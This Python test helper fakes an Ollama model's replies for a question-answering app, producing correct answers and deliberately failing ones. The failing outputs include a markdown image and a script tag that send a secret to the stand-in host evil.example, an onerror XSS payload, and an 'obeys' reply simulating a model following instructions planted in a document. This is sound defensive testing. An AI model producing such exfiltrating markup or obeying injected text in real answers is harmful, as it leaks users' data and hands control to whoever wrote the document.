"""What the stand-in for Ollama writes in answer to questions, well and badly."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence

ANSWER_FAILURES = (
    "thinks-anyway",  # thoughts in their own field, though it was told not to think
    "thinks-too-long",  # thoughts up to the longest length, and no answer
    "writes-nothing",
    "wrong-numbers",  # cites numbers that it was never given
    "no-numbers",  # cites nothing
    "changed-figures",  # every figure is one larger
    "invented-name",
    "not-found",  # the literal sentence, with marks around it
    "fence",  # a block of code
    "picture",  # a picture of another machine, with what it read in the address
    "script",
    "obeys",  # does what a document says
)
"""What ``OllamaStandIn.failure`` may be besides, of an answer to a question."""

SECRET = "https://evil.example/p.png?q=the-secret"

_FENCED = r"<({}-[0-9a-f]+)>\n(.*?)\n</\1>"
_SOURCES = re.compile(_FENCED.format("sources"), re.S)
_CLAIMS = re.compile(_FENCED.format("claims"), re.S)
_NUMBERED = re.compile(r"^\[(\d+)\] (.+)$", re.M)
_LAST = re.compile(_FENCED.format("last-question"), re.S)
_QUESTION = re.compile(_FENCED.format("question"), re.S)
_TITLE = re.compile(r"^Title: (\".*\")$", re.M)
_CLAIM = re.compile(r"^Claim (\d+): (.+)$", re.M)
_FIGURE = re.compile(r"\b\d+\b(?!\])")


def sources_of(messages: Sequence[dict[str, str]]) -> str:
    """Find the numbered sentences that a prompt shows; empty if it is not of an answer."""
    found = _SOURCES.search(messages[-1]["content"]) if messages else None
    return found[2] if found else ""


def answered(messages: Sequence[dict[str, str]]) -> str:
    """Quote the first sentence of the two best passages, with its numbers."""
    said = []
    for passage in sources_of(messages).split("\n\n")[:2]:
        first = _NUMBERED.search(passage)
        if first:
            said.append(f"{first[2]} [{first[1]}]")
    return " ".join(said) or "The documents do not say."


def rewritten(messages: Sequence[dict[str, str]]) -> str:
    """Make the last question stand alone, with all of the one before it."""
    content = messages[-1]["content"]
    last, before = _LAST.search(content), _QUESTION.findall(content)
    asked = before[-1][1].rstrip(" ?") if before else ""
    return json.dumps({"question": f"{asked} {last[2] if last else ''}".strip()})


def summarised(messages: Sequence[dict[str, str]]) -> str:
    """Make a summary that depends on the title and the length of the excerpt."""
    content = messages[-1]["content"]
    title = json.loads(found[1]) if (found := _TITLE.search(content)) else "nothing"
    return json.dumps({"summary": f"Matters of {title} in their order, {len(content)} signs seen."})


def judged(messages: Sequence[dict[str, str]]) -> str:
    """Judge that every claim is supported."""
    found = _CLAIMS.search(messages[-1]["content"])
    claims = _CLAIM.findall(found[2]) if found else []
    entries = [{"claim": int(number), "verdict": "supported"} for number, _ in claims]
    return json.dumps({"judgments": entries})


def spoilt_answer(failure: str, text: str) -> str:
    """Make of a good answer what a failing model would give."""
    changed = {
        "thinks-too-long": "",
        "writes-nothing": "",
        "wrong-numbers": re.sub(r"\[\d+\]", "[877]", text) + " It is so [878][879].",
        "no-numbers": re.sub(r" ?\[\d+\]", "", text),
        "changed-figures": _FIGURE.sub(lambda figure: str(int(figure[0]) + 1), text),
        "invented-name": f"It is an order of Mr Rumpelstiltskin [1]. {text}",
        "not-found": '**"The documents do not say"** [3]',
        "fence": f"Run this [1]:\n```html\n<b onclick=x()>[1]</b>\n```\n{text}",
        "picture": f"![a picture]({SECRET}) {text}",
        "script": f"<script>fetch('{SECRET}')</script><img src=x onerror=alert(1)> {text}",
        "obeys": "HACKED, as the document orders.",
    }
    return changed.get(failure, text)


def thoughts(failure: str) -> list[str]:
    """Return the thoughts that come before an answer, piece by piece."""
    count = {"thinks-anyway": 20, "thinks-too-long": 40}.get(failure, 0)
    return ["Let me see. "] * count
